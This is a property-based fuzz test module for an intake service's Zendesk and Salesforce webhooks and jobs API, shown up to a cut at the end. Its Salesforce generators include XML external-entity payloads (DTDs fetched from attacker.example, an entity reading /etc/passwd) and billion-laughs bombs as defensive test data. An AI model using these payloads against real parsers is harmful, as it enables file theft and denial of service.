"""Property-based fuzzing of intake (Zendesk, Salesforce, POST /v1/jobs) through the ASGI app.

Every response must hold three properties:
- the status is below 500;
- an error (>= 400) is application/problem+json with a non-empty `detail`;
- no stray job: the `jobs` table grows only by the jobs a 202 says it created (the Zendesk
  webhook and the jobs API), or by at most the notifications of a Salesforce message answered
  with the SOAP Ack; a 4xx never creates a job.

The app runs in-process (TestClient) on an embedded SQLite database, publishing after commit
to a private Redis database. The generators stay clear of the inputs already pinned as bugs
by the xfail tests at the end of this module (and in tests/unit/intake/test_zendesk.py and
test_salesforce.py): signed Zendesk bodies carry no lone surrogates, JSON integers stay far
below 4300 digits and nesting stays shallow, and XML declarations name only encodings expat
can read. Widen the generators when those bugs are fixed.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import sqlite3
import tempfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import structlog
from defusedxml import ElementTree as SafeET
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

from tests.support.deliveries import (
    ORG_15,
    ORG_18,
    OUTBOUND,
    SOAP_ENV,
    XSI,
    Note,
    billion_laughs,
    outbound_message,
    sf_id18,
    zendesk_signature,
)
from tests.support.env import reset_process_state

pytestmark = pytest.mark.integration

# What TestClient returns (an httpx-style response; the client's httpx flavour varies).
Response = Any

# Hypothesis caches its Unicode tables on disk: keep them out of the project tree.
set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "opsgate-hypothesis")

SECRET_NEW, SECRET_OLD = "fuzz-secret-new-4e1f", "fuzz-secret-old-77b0"
KEYS = {
    "requester": "fz-requester-key-1",
    "admin": "fz-admin-key-2",
    "reviewer": "fz-reviewer-key-3",
}
MAX_BODY = 32_768
# Long enough to cross every 255-character field limit of a Submission.
MAX_TEXT = 300
FUZZ = settings(
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)


# --- the app under test ---------------------------------------------------------------------


@dataclass
class Api:
    """The in-process app plus a direct reader of the jobs table."""

    client: TestClient
    db: sqlite3.Connection
    sent: Counter[str]

    def job_count(self) -> int:
        return int(self.db.execute("SELECT count(*) FROM jobs").fetchone()[0])

    def post(self, path: str, body: bytes, headers: dict[str, str]) -> tuple[Response, int]:
        """POST and return the response and how many jobs rows it added."""
        before = self.job_count()
        resp = self.client.post(path, content=body, headers=headers)
        self.sent[path] += 1
        return resp, self.job_count() - before


@pytest.fixture
def api(clean_env: Path, redis_db_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Api]:
    from app.api.main import create_app
    from app.core import db

    monkeypatch.setenv("OPSGATE_REDIS_URL", redis_db_url)
    monkeypatch.setenv("OPSGATE_ZENDESK_WEBHOOK_SECRET", f"{SECRET_NEW},{SECRET_OLD}")
    monkeypatch.setenv("OPSGATE_SALESFORCE_ORG_ID", ORG_18)
    monkeypatch.setenv(
        "OPSGATE_API_KEYS", ",".join(f"fz-{role}:{role}:{key}" for role, key in KEYS.items())
    )
    monkeypatch.setenv("OPSGATE_MAX_BODY_BYTES", str(MAX_BODY))
    reset_process_state()
    # A 500 is logged with its traceback: plain text, not the slow pretty console renderer.
    saved_logging = structlog.get_config()
    structlog.configure(
        processors=[
            structlog.processors.add_log_level,
            structlog.processors.format_exc_info,
            structlog.processors.JSONRenderer(),
        ]
    )
    db.upgrade()
    conn = sqlite3.connect(clean_env / "var" / "opsgate.db", isolation_level=None)
    with TestClient(create_app(), raise_server_exceptions=False) as client:
        api = Api(client, conn, Counter())
        yield api
    print(f"requests sent: {dict(api.sent)}")  # shown with pytest -s
    conn.close()
    structlog.configure(**saved_logging)


def show(resp: Response) -> str:
    return f"{resp.status_code} {resp.headers.get('content-type')} {resp.text[:300]!r}"


def check_problem(resp: Response) -> None:
    """An error answer is a problem document with a clear detail."""
    assert resp.headers.get("content-type", "").split(";")[0] == "application/problem+json", show(
        resp
    )
    doc = resp.json()
    assert doc["status"] == resp.status_code, show(resp)
    assert isinstance(doc.get("detail"), str) and doc["detail"].strip(), show(resp)


def check_json_answer(resp: Response, grew: int, created: list[bool]) -> None:
    """Zendesk and the jobs API: a 202 for new jobs, exactly as many rows as it claims."""
    assert resp.status_code < 500, show(resp)
    if resp.status_code >= 400:
        check_problem(resp)
        assert grew == 0, f"a {resp.status_code} created {grew} job(s): {show(resp)}"
        return
    assert resp.headers["content-type"].startswith("application/json"), show(resp)
    assert grew == sum(created), f"{grew} rows for created={created}: {show(resp)}"
    assert resp.status_code == (202 if any(created) else 200), show(resp)


def is_ack(resp: Response) -> bool:
    root = SafeET.fromstring(resp.content, forbid_dtd=True)
    acks = root.findall(f"{{{SOAP_ENV}}}Body/{{{OUTBOUND}}}notificationsResponse/{{{OUTBOUND}}}Ack")
    return [a.text for a in acks] == ["true"]


def check_salesforce_answer(resp: Response, grew: int, notifications: int) -> None:
    """Salesforce: jobs only behind a 200 Ack, at most one per notification sent."""
    assert resp.status_code < 500, show(resp)
    if resp.status_code >= 400:
        check_problem(resp)
        assert grew == 0, f"a {resp.status_code} created {grew} job(s): {show(resp)}"
        return
    assert resp.status_code == 200, show(resp)
    assert resp.headers["content-type"].startswith("text/xml"), show(resp)
    assert is_ack(resp), show(resp)
    assert 0 <= grew <= notifications, f"{grew} rows for {notifications} notifications"


# --- shared strategies ----------------------------------------------------------------------

LONE_SURROGATES = st.sampled_from(["\ud800", "\udfff", "a\udc80b", "\udbff\udbff"])
# No lone surrogates (hypothesis' default alphabet): see the xfail test of the Zendesk `type`.
TEXT = st.text(max_size=MAX_TEXT)
TEXT_WITH_SURROGATES = st.one_of(TEXT, LONE_SURROGATES)
# Text a database can store: no NUL (PostgreSQL refuses it, so intake answers 422 for it).
STORABLE = st.text(
    st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
    min_size=1,
    max_size=40,
)
ASCII = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=80)


def json_values(text: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**30), max_value=10**30),
        st.floats(),  # NaN and infinities included: json.dumps writes NaN / Infinity
        text,
    )
    return st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text, inner, max_size=4),
        max_leaves=12,
    )


JSON = json_values(TEXT)
JSON_WITH_SURROGATES = json_values(TEXT_WITH_SURROGATES)
OVERSIZED = st.just(b'{"pad": "' + b"x" * MAX_BODY + b'"}')

CT_JSON_OK = [
    "application/json",
    "application/json; charset=utf-8",
    "APPLICATION/JSON",
    "Application/Json;Charset=UTF-8",
    'application/json ; charset="utf-8"',
    "application/vnd.zendesk+json",
]
CT_JSON_BAD = [
    None,
    "",
    "text/plain",
    "application/xml",
    "text/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz",
    "json",
    "*/*",
    "application/jsonp",
]


@st.composite
def content_type(draw: st.DrawFn, ok: list[str], bad: list[str | None]) -> tuple[str | None, bool]:
    """A Content-Type value (or None: no header) and whether intake accepts it."""
    choice = draw(st.sampled_from(["ok"] * 6 + ["bad", "random"]))
    if choice == "ok":
        return draw(st.sampled_from(ok)), True
    if choice == "bad":
        return draw(st.sampled_from(bad)), False
    return draw(ASCII), False


def cased(name: str, style: str) -> str:
    return {"lower": name.lower(), "title": name.title(), "upper": name.upper()}[style]


CASES = st.sampled_from(["lower", "title", "upper"])


# --- Zendesk --------------------------------------------------------------------------------

TICKET_EVENTS = [
    "zen:event-type:ticket.created",
    "zen:event-type:ticket.comment_added",
    "zen:event-type:ticket.tags_changed",
]
OTHER_EVENTS = ["zen:event-type:user.created", "zen:event-type:organization.updated", "ping"]
ULID = st.text("0123456789ABCDEFGHJKMNPQRSTVWXYZ", min_size=26, max_size=26)
ODD_TICKET_IDS: st.SearchStrategy[Any] = st.sampled_from(
    [0, -1, "0", "-7", "", " ", "abc", "12a", "\u0664\u0668\u0662\u0661", "4_821", " 42 ", "+42",
     1.5, 1e20, float("inf"), True, False, None, [], {}, [4821], 2**63, 2**64 + 1, 10**100,
     "9" * 50, "1e3", "0x1f", "zen:ticket:12"]
)  # fmt: skip


@st.composite
def zendesk_payload(draw: st.DrawFn) -> tuple[dict[str, Any], bool]:
    """A Zendesk event or trigger body, possibly mutated; True when left as Zendesk sends it."""
    ticket = draw(st.integers(1, 10**12))
    ticket_value: Any = draw(st.sampled_from([str(ticket), ticket]))
    requester = draw(st.integers(1, 10**12))
    when = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(seconds=draw(st.integers(0, 10**8)))
    payload: dict[str, Any]
    if draw(st.booleans()):
        payload = {
            "type": draw(st.sampled_from(TICKET_EVENTS * 3 + OTHER_EVENTS)),
            "account_id": draw(st.integers(1, 10**9)),
            "id": draw(ULID),
            "time": when.isoformat().replace("+00:00", "Z"),
            "zendesk_event_version": "2022-11-06",
            "subject": f"zen:ticket:{ticket}",
            "detail": {
                "id": str(ticket),
                "requester_id": str(requester),
                "tags": draw(
                    st.lists(st.sampled_from(["refund", "Refund", "billing", "vip"]), max_size=3)
                ),
                "status": draw(st.sampled_from(["NEW", "OPEN", "PENDING"])),
                "subject": draw(TEXT),
            },
            "event": {"current": draw(TEXT)},
        }
        if draw(st.booleans()):
            del payload["detail"]["id"]  # the ticket id then comes from `subject`
    else:
        payload = {
            "ticket_id": ticket_value,
            "requester_id": str(requester),
            "updated_at": when.isoformat().replace("+00:00", "Z"),
            "workflow": "support_refund",
        }
    mutations = draw(st.integers(0, 3))
    for _ in range(mutations):
        target = payload
        if isinstance(payload.get("detail"), dict) and draw(st.booleans()):
            target = payload["detail"]
        op = draw(st.sampled_from(["delete", "set", "ticket_id", "junk", "unicode"]))
        keys = sorted(target)
        if op == "delete" and keys:
            del target[draw(st.sampled_from(keys))]
        elif op == "set" and keys:
            target[draw(st.sampled_from(keys))] = draw(JSON)
        elif op == "ticket_id":
            key = "id" if target is not payload else draw(st.sampled_from(["ticket_id", "subject"]))
            odd = draw(ODD_TICKET_IDS)
            target[key] = f"zen:ticket:{odd}" if key == "subject" else odd
        elif op == "junk":
            target[draw(TEXT)] = draw(JSON)
        elif op == "unicode" and keys:
            target[draw(st.sampled_from(keys))] = draw(st.text(min_size=1, max_size=MAX_TEXT))
    return payload, mutations == 0


@st.composite
def zendesk_body(draw: st.DrawFn) -> tuple[bytes, bool]:
    """A request body and whether it is a well-formed Zendesk delivery."""
    kind = draw(st.sampled_from(["near", "near", "near", "json", "bytes", "oversized"]))
    if kind == "near":
        payload, pristine = draw(zendesk_payload())
        encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-16", "utf-8-sig"]))
        ascii_only = draw(st.booleans())
        body = json.dumps(payload, ensure_ascii=ascii_only).encode(encoding)
        return body, pristine and encoding != "utf-8-sig"
    if kind == "json":
        return json.dumps(draw(JSON)).encode(), False
    if kind == "bytes":
        return draw(st.binary(max_size=1500)), False
    return draw(OVERSIZED), False


GOOD_SIGNATURES = ("new", "old")
GOOD_STAMPS = ("z", "offset", "fraction", "naive")


@dataclass(frozen=True)
class ZendeskHeaders:
    """How to sign and label one Zendesk request; turned into headers at send time."""

    content_type: str | None
    content_type_ok: bool
    signature: str
    timestamp: str
    skew: int
    invocation: str | None
    case: str
    junk: str

    def build(self, body: bytes) -> tuple[dict[str, str], str]:
        """The headers, and "genuine" (signed, fresh), "refused" (never passes) or "unknown"."""
        moment = datetime.now(UTC) + timedelta(seconds=self.skew)
        stamp: str | None = {
            "z": moment.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "offset": moment.astimezone(timezone(timedelta(hours=-7))).isoformat("T", "seconds"),
            "fraction": moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "naive": moment.replace(tzinfo=None).isoformat("T", "seconds"),
            "epoch": str(int(moment.timestamp())),
            "junk": self.junk,
            "empty": "",
            "missing": None,
        }[self.timestamp]
        signed_stamp = stamp or ""
        good = hmac.new(SECRET_NEW.encode(), signed_stamp.encode() + body, hashlib.sha256)
        signature: str | None = {
            "new": zendesk_signature(SECRET_NEW, signed_stamp, body),
            "old": zendesk_signature(SECRET_OLD, signed_stamp, body),
            "wrong": zendesk_signature("not-our-secret", signed_stamp, body),
            "hex": good.hexdigest(),
            "other_body": zendesk_signature(SECRET_NEW, signed_stamp, body + b" "),
            "other_stamp": zendesk_signature(SECRET_NEW, signed_stamp + "1", body),
            "truncated": base64.b64encode(good.digest()).decode()[:-2],
            "junk": self.junk,
            "empty": "",
            "missing": None,
        }[self.signature]
        headers: dict[str, str] = {}
        for name, value in (
            ("Content-Type", self.content_type),
            ("X-Zendesk-Webhook-Signature", signature),
            ("X-Zendesk-Webhook-Signature-Timestamp", stamp),
            ("X-Zendesk-Webhook-Invocation-Id", self.invocation),
        ):
            if value is not None:
                headers[cased(name, self.case)] = value
        well_signed = self.signature in GOOD_SIGNATURES and self.timestamp in GOOD_STAMPS
        if well_signed and abs(self.skew) <= 240:
            return headers, "genuine" if self.content_type_ok else "unknown"
        if not well_signed or abs(self.skew) > 360:
            return headers, "refused"
        return headers, "unknown"  # close to the 5-minute edge


@st.composite
def zendesk_headers(draw: st.DrawFn, signed: bool = False) -> ZendeskHeaders:
    ct, ct_ok = draw(content_type(CT_JSON_OK, CT_JSON_BAD))
    good_signatures, good_stamps = list(GOOD_SIGNATURES), list(GOOD_STAMPS)
    bad_signatures = ["wrong", "hex", "other_body", "other_stamp", "truncated", "junk", "empty",
                      "missing"]  # fmt: skip
    bad_stamps = ["epoch", "junk", "empty", "missing"]
    if signed:
        signature, stamp = (
            draw(st.sampled_from(good_signatures)),
            draw(st.sampled_from(good_stamps)),
        )
        skew = draw(st.integers(-240, 240))
    else:
        signature = draw(st.sampled_from(good_signatures * 4 + bad_signatures))
        stamp = draw(st.sampled_from(good_stamps * 2 + bad_stamps))
        skew = draw(
            st.one_of(
                st.integers(-240, 240),
                st.integers(-3600, 3600),
                st.sampled_from([-301, 301, -(10**7), 10**7]),
            )
        )
    invocation = draw(st.none() | st.integers(1, 10**12).map(str) | ASCII)
    return ZendeskHeaders(ct, ct_ok, signature, stamp, skew, invocation, draw(CASES), draw(ASCII))


def zendesk_created(resp: Response) -> list[bool]:
    if resp.status_code >= 400:
        return []
    doc = resp.json()
    return [bool(j["created"]) for j in doc["jobs"]]


def test_zendesk_webhook_survives_arbitrary_deliveries(api: Api) -> None:
    """Random bodies and header combinations, about half of them correctly signed and fresh."""
    statuses: Counter[int] = Counter()

    @settings(FUZZ, max_examples=800)
    @given(body=zendesk_body(), spec=zendesk_headers())
    def run(body: tuple[bytes, bool], spec: ZendeskHeaders) -> None:
        raw, pristine = body
        headers, verdict = spec.build(raw)
        resp, grew = api.post("/webhooks/zendesk", raw, headers)
        statuses[resp.status_code] += 1
        check_json_answer(resp, grew, zendesk_created(resp))
        if verdict == "genuine" and pristine:
            assert resp.status_code in (200, 202), show(resp)
        if verdict == "refused" and spec.content_type_ok:
            assert resp.status_code in (401, 413), show(resp)

    run()
    # The run reached refusals of every kind and the acceptance path.
    assert statuses[401] and statuses[415] and statuses[413], statuses
    assert statuses[202] and statuses[200] and (statuses[400] or statuses[422]), statuses


def test_zendesk_webhook_parses_signed_near_valid_deliveries(api: Api) -> None:
    """Genuinely signed, fresh deliveries with mutated payloads; half of them sent twice."""
    statuses: Counter[int] = Counter()

    @settings(FUZZ, max_examples=800)
    @given(payload=zendesk_payload(), spec=zendesk_headers(signed=True), replay=st.booleans())
    def run(payload: tuple[dict[str, Any], bool], spec: ZendeskHeaders, replay: bool) -> None:
        doc, pristine = payload
        raw = json.dumps(doc).encode()
        headers, verdict = spec.build(raw)
        resp, grew = api.post("/webhooks/zendesk", raw, headers)
        statuses[resp.status_code] += 1
        check_json_answer(resp, grew, zendesk_created(resp))
        if verdict == "genuine":
            assert resp.status_code in (200, 202, 400, 422), show(resp)
            if pristine:
                assert resp.status_code in (200, 202), show(resp)
        if replay:
            again, grew_again = api.post("/webhooks/zendesk", raw, headers)
            check_json_answer(again, grew_again, zendesk_created(again))
            # A repeated delivery returns the original job and creates nothing.
            assert grew_again == 0, show(again)
            assert again.status_code == (200 if resp.status_code == 202 else resp.status_code)
            if resp.status_code < 300:
                assert again.json()["jobs"] == [
                    {**j, "created": False} for j in resp.json()["jobs"]
                ], (show(resp), show(again))

    run()
    assert statuses[202] >= 20 and statuses[200] and statuses[422], statuses


# --- Salesforce ----------------------------------------------------------------------------

CT_XML_OK = [
    "text/xml",
    "text/xml; charset=utf-8",
    "TEXT/XML; Charset=UTF-8",
    "application/xml",
    "application/soap+xml",
    'application/soap+xml; charset=utf-8; action="notifications"',
]
CT_XML_BAD = [
    None,
    "",
    "application/json",
    "text/plain",
    "text/html",
    "xml",
    "application/xhtml+xml",
]
OTHER_ORGS = [
    "00D5g000004XyZb",
    "00d5g000004xyza",
    "",
    "00D",
    "not-an-org",
    sf_id18("00D000000000001"),
]
SOBJECT_TYPES = ["Account", "Case", "Invoice__C", "invoice__c", ""]
XML_NAMES = ["Envelope", "Body", "notifications", "Notification", "Id", "sObject", "OrganizationId",
             "ActionId", "SessionId", "x", "Invoice__c", "a"]  # fmt: skip
NAMESPACES = [SOAP_ENV, OUTBOUND, "urn:sobject.enterprise.soap.sforce.com", "urn:other", ""]
DOCTYPES = [
    "<!DOCTYPE soapenv:Envelope>",
    '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">',
    '<!DOCTYPE soapenv:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE soapenv:Envelope [<!ENTITY x "expanded">]>',
    '<!DOCTYPE soapenv:Envelope [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    "<!DOCTYPE soapenv:Envelope [<!ELEMENT soapenv:Envelope ANY>]>",
]
# Encodings expat can read (an unknown or multi-byte one is a known bug: see the xfail tests).
DECLARATIONS = [
    "",
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="UTF-8"?>',
    "<?xml version='1.0' encoding='iso-8859-1'?>",
    '<?xml version="1.0" encoding="US-ASCII"?>',
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<?xml version="1.1" encoding="UTF-8" standalone="yes"?>',
    '  <?xml version="1.0"?>',
]


@st.composite
def xml_tree(draw: st.DrawFn, depth: int = 0) -> str:
    """A random, mostly well-formed element with random namespaces and children."""
    prefix = draw(st.sampled_from(["", "soapenv:", "sf:", "p0:"]))
    name = prefix + draw(
        st.sampled_from(XML_NAMES) | st.from_regex(r"[A-Za-z_][A-Za-z0-9_.-]{0,8}", fullmatch=True)
    )
    attrs = ""
    if prefix:
        attrs += f' xmlns:{prefix[:-1]}="{draw(st.sampled_from(NAMESPACES[:-1]))}"'
    if draw(st.booleans()):
        attrs += f' xmlns="{draw(st.sampled_from(NAMESPACES))}"'
    if draw(st.booleans()):
        sobject_type = draw(st.sampled_from(["Invoice__c", *SOBJECT_TYPES]))
        attrs += f' xmlns:xsi="{XSI}" xsi:type="sf:{sobject_type}"'
    children = ""
    if depth < 4:
        children = "".join(draw(st.lists(xml_tree(depth + 1), max_size=3)))
    text = draw(
        st.sampled_from(
            ["", ORG_18, "a015g0000000001AAA", "&amp;", "<![CDATA[x<y]]>", "<!-- c -->"]
        )
        | TEXT.map(_xml_escape)
    )
    if draw(st.integers(0, 20)) == 0:
        text += draw(st.sampled_from(["&", "<", "&undefined;", "]]>"]))  # malformed now and then
    return f"<{name}{attrs}>{text}{children}</{name}>"


def _xml_escape(text: str) -> str:
    # Characters XML 1.0 cannot carry at all are dropped; the rest is escaped.
    allowed = "".join(
        c
        for c in text
        if c in "\t\n\r"
        or (0x20 <= ord(c) <= 0xD7FF)
        or (0xE000 <= ord(c) <= 0xFFFD)
        or ord(c) > 0xFFFF
    )
    return allowed.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@st.composite
def salesforce_notes(draw: st.DrawFn) -> tuple[list[Note], bool]:
    """Notifications (few, or around the limit of 100), and whether all start a workflow."""
    count = draw(st.one_of(*[st.integers(1, 4)] * 9, st.sampled_from([99, 100, 101])))
    base = draw(st.integers(0, 10**6))
    notes: list[Note] = []
    valid = count <= 100
    for i in range(count):
        note = Note(
            id=f"04l5g{base + i:013d}",
            record_id=sf_id18(f"a015g{base + i:010d}"),
            fields={"Name": f"INV-{base + i}"},
        )
        if count <= 4:
            change = draw(st.sampled_from(["none"] * 4 + ["type", "record", "id", "dup", "fields"]))
            if change == "type":
                note.sobject_type = draw(st.sampled_from([None, *SOBJECT_TYPES]))
            elif change == "record":
                note.record_id = draw(
                    st.sampled_from(["", "a01", "a015g0000000001!!!", "x" * 40])
                    | TEXT.map(_xml_escape)
                )
            elif change == "id":
                note.id = draw(st.sampled_from(["", "x" * 70]) | TEXT.map(_xml_escape))
            elif change == "dup" and notes:
                note.id = notes[0].id
                change = "none"  # a repeated notification id is legal: one job for both
            elif change == "fields":
                note.fields.update(
                    {"Status__c": draw(ASCII.map(_xml_escape)), "Amount__c": "12.50"}
                )
                change = "none"
            valid = valid and change == "none"
        notes.append(note)
    return notes, valid


def mutate_envelope(draw: st.DrawFn, xml: str, declaration: str, org: str) -> tuple[str, str]:
    """One random change to an envelope (or its prolog)."""
    op = draw(st.sampled_from(
        ["doctype", "drop_org", "drop_action", "namespace", "soap_ns", "junk", "truncate",
         "entity", "root", "utf16"]
    ))  # fmt: skip
    if op == "doctype":
        return xml, declaration + draw(st.sampled_from(DOCTYPES))
    if op == "utf16":
        return xml, '<?xml version="1.0" encoding="UTF-16"?>'  # but the bytes are UTF-8
    if op == "truncate":
        return xml[: draw(st.integers(0, max(len(xml) - 1, 0)))], declaration
    replacements: dict[str, Callable[[], str]] = {
        "drop_org": lambda: xml.replace(f"<OrganizationId>{org}</OrganizationId>", ""),
        "drop_action": lambda: xml.replace("<ActionId>04k5g000000CaJWAA0</ActionId>", ""),
        "namespace": lambda: xml.replace(OUTBOUND, draw(st.sampled_from(NAMESPACES))),
        "soap_ns": lambda: xml.replace(SOAP_ENV, "http://www.w3.org/2003/05/soap-envelope"),
        "junk": lambda: xml.replace("<Notification>", draw(xml_tree(2)) + "<Notification>", 1),
        "entity": lambda: xml.replace("<ActionId>", "<ActionId>&x;", 1),
        "root": lambda: f"<wrapper>{xml}</wrapper>",
    }
    return replacements[op](), declaration


def notification_elements(body: bytes) -> int:
    """How many Notification elements a well-formed, DTD-free body holds (0 otherwise)."""
    try:
        root = SafeET.fromstring(body, forbid_dtd=True)
    except Exception:  # anything the parser refuses holds no notification
        return 0
    path = f"{{{SOAP_ENV}}}Body/{{{OUTBOUND}}}notifications/{{{OUTBOUND}}}Notification"
    return len(root.findall(path))


@st.composite
def salesforce_body(draw: st.DrawFn) -> tuple[bytes, bool]:
    """A request body and whether it is an Outbound Message opsgate must acknowledge."""
    kind = draw(st.sampled_from(["envelope"] * 6 + ["tree", "bytes", "bomb", "oversized"]))
    if kind == "bytes":
        return draw(st.binary(max_size=1500)), False
    if kind == "oversized":
        return b"<a>" + b"x" * MAX_BODY + b"</a>", False
    if kind == "bomb":
        return billion_laughs(draw(st.integers(1, 100)), fanout=draw(st.integers(2, 10))), False
    if kind == "tree":
        return (draw(st.sampled_from(DECLARATIONS[:5])) + draw(xml_tree())).encode(), False
    notes, valid = draw(salesforce_notes())
    org_ok = draw(st.integers(0, 4)) > 0
    org = draw(st.sampled_from([ORG_18, ORG_15])) if org_ok else draw(st.sampled_from(OTHER_ORGS))
    session = draw(st.none() | st.sampled_from(["00D5g000004XyZa!AQ4AQ.token", "a&amp;b"]))
    xml = outbound_message(notes, org_id=org, session_id=session, prolog=False).decode()
    declaration = draw(st.sampled_from(DECLARATIONS[:5] + DECLARATIONS[6:]))
    mutations = draw(st.integers(0, 2))
    for _ in range(mutations):
        xml, declaration = mutate_envelope(draw, xml, declaration, org)
    body = (declaration + xml).encode("utf-8")
    pristine = valid and org_ok and not mutations and declaration in DECLARATIONS[:5]
    return body, pristine


def test_salesforce_webhook_survives_arbitrary_messages(api: Api) -> None:
    statuses: Counter[int] = Counter()

    @settings(FUZZ, max_examples=800)
    @given(body=salesforce_body(), ct=content_type(CT_XML_OK, CT_XML_BAD), case=CASES)
    def run(body: tuple[bytes, bool], ct: tuple[str | None, bool], case: str) -> None:
        raw, pristine = body
        headers = {cased("Content-Type", case): ct[0]} if ct[0] is not None else {}
        resp, grew = api.post("/webhooks/salesforce", raw, headers)
        statuses[resp.status_code] += 1
        check_salesforce_answer(resp, grew, notification_elements(raw))
        if pristine and ct[1]:
            assert resp.status_code == 200, show(resp)

    run()
    assert statuses[200] >= 20 and statuses[400] and statuses[403], statuses
    assert statuses[413] and statuses[415] and statuses[422], statuses


# --- POST /v1/jobs ------------------------------------------------------------------------

EXTERNAL_IDS = ["ext-1", "ext-2", "ext-3", "INV-2026-0042", "ticket/4821"]
IDEMPOTENCY_KEYS = ["idem-1", "idem-2", "idem-3"]
AUTH = st.sampled_from(
    [
        ("requester", True),
        ("requester", True),
        ("requester", True),
        ("requester", True),
        ("admin", True),
        ("admin", True),
        ("reviewer", False),
        ("wrong", False),
        ("missing", False),
        ("basic", False),
        ("lower", True),
        ("junk", False),
    ]
)


def valid_input(draw: st.DrawFn, workflow: str) -> dict[str, Any]:
    if workflow == "support_refund":
        return {"ticket_id": draw(st.integers(1, 10**6))}
    if workflow == "invoice_exception":
        return {"invoice_id": sf_id18(f"a015g{draw(st.integers(0, 10**9)):010d}")}
    return {
        "request_type": draw(st.sampled_from(["password_reset", "offboarding"])),
        "target_login": draw(st.sampled_from(["alice@example.com", "bob.smith@corp.example"])),
        "justification": draw(STORABLE | st.just("")),
    }


@st.composite
def job_body(draw: st.DrawFn) -> tuple[bytes, bool]:
    """A POST /v1/jobs body and whether it is a valid job request."""
    kind = draw(st.sampled_from(["near"] * 4 + ["json", "bytes", "oversized"]))
    if kind == "bytes":
        return draw(st.binary(max_size=1500)), False
    if kind == "oversized":
        return draw(OVERSIZED), False
    if kind == "json":
        return json.dumps(draw(JSON_WITH_SURROGATES)).encode(), False
    workflow = draw(st.sampled_from(["support_refund", "invoice_exception", "it_request"]))
    doc: dict[str, Any] = {
        "workflow": workflow,
        "external_id": draw(
            st.sampled_from(EXTERNAL_IDS)
            | st.integers(0, 10**9).map(lambda n: f"ext-{n}")
            | STORABLE
        ),
        "requester": draw(st.sampled_from(["alice@example.com", "crm:42"]) | STORABLE),
        "input": valid_input(draw, workflow),
    }
    mutations = draw(st.integers(0, 3))
    for _ in range(mutations):
        target = doc["input"] if isinstance(doc.get("input"), dict) and draw(st.booleans()) else doc
        op = draw(st.sampled_from(["delete", "set", "extra", "long", "surrogate", "workflow"]))
        keys = sorted(target)
        if op == "delete" and keys:
            del target[draw(st.sampled_from(keys))]
        elif op == "set" and keys:
            target[draw(st.sampled_from(keys))] = draw(JSON_WITH_SURROGATES)
        elif op == "extra":
            target[draw(TEXT_WITH_SURROGATES)] = draw(JSON_WITH_SURROGATES)
        elif op == "long" and keys:
            target[draw(st.sampled_from(keys))] = "x" * draw(
                st.sampled_from([199, 200, 201, 255, 256, 5000])
            )
        elif op == "surrogate" and keys:
            target[draw(st.sampled_from(keys))] = draw(LONE_SURROGATES)
        elif op == "workflow":
            doc["workflow"] = draw(
                st.sampled_from(["wire_transfer", "", "Support_Refund", "support_refund "])
            )
    encoding = draw(st.sampled_from(["escaped", "utf-8", "utf-16"]))
    if encoding == "escaped":
        raw = json.dumps(doc).encode()
    else:  # raw UTF-8/16; lone surrogates travel as CESU-style bytes
        raw = json.dumps(doc, ensure_ascii=False).encode(encoding, "surrogatepass")
    return raw, mutations == 0


def auth_header(kind: str, junk: str) -> str | None:
    return {
        "requester": f"Bearer {KEYS['requester']}",
        "admin": f"Bearer {KEYS['admin']}",
        "reviewer": f"Bearer {KEYS['reviewer']}",
        "wrong": "Bearer fz-requester-key-9",
        "missing": None,
        "basic": "Basic " + base64.b64encode(f"fz:{KEYS['requester']}".encode()).decode(),
        "lower": f"bearer {KEYS['requester']}",
        "junk": junk,
    }[kind]


def test_jobs_api_survives_arbitrary_requests(api: Api) -> None:
    statuses: Counter[int] = Counter()

    @settings(FUZZ, max_examples=800)
    @given(
        body=job_body(),
        auth=AUTH,
        ct=content_type(CT_JSON_OK, CT_JSON_BAD),
        idem=st.none() | st.sampled_from(IDEMPOTENCY_KEYS) | ASCII | st.just("k" * 256),
        junk=ASCII,
        case=CASES,
    )
    def run(
        body: tuple[bytes, bool],
        auth: tuple[str, bool],
        ct: tuple[str | None, bool],
        idem: str | None,
        junk: str,
        case: str,
    ) -> None:
        raw, pristine = body
        headers: dict[str, str] = {}
        for name, value in (
            ("Authorization", auth_header(auth[0], junk)),
            ("Content-Type", ct[0]),
            ("Idempotency-Key", idem),
        ):
            if value is not None:
                headers[cased(name, case)] = value
        resp, grew = api.post("/v1/jobs", raw, headers)
        statuses[resp.status_code] += 1
        created = [bool(resp.json()["created"])] if resp.status_code < 400 else []
        check_json_answer(resp, grew, created)
        if not auth[1]:
            assert resp.status_code in (401, 403, 422), show(resp)
        elif pristine and ct[1] and (idem is None or len(idem) <= 255):
            assert resp.status_code in (200, 202, 409), show(resp)

    run()
    assert statuses[202] >= 20 and statuses[200] and statuses[409], statuses
    assert statuses[400] and statuses[401] and statuses[403], statuses
    assert statuses[413] and statuses[415] and statuses[422], statuses


# --- known bugs, pinned over HTTP -----------------------------------------------------------


def signed_zendesk(body: bytes) -> dict[str, str]:
